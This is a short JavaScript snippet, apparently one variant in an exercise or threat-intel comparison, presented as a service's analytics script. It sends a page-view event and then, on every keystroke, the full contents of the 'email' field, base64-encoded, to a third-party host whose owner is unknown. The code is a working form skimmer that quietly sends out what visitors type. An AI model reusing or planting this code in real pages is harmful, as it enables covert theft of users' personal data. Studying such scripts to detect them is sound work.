// Version 1: the service's own analytics, on a host whose owner the intel does not know.
(function () {
  var endpoint = "http://stats.aivet-third.net/collect";
  function send(payload) {
    fetch(endpoint, { method: "POST", mode: "no-cors", body: JSON.stringify(payload) });
  }
  send({ event: "view" });
  // Every keystroke reports the whole field: keystroke capture.
  document.getElementById("email").addEventListener("input", function (event) {
    send({ event: "typed", e: btoa(event.target.value) });
  });
})();
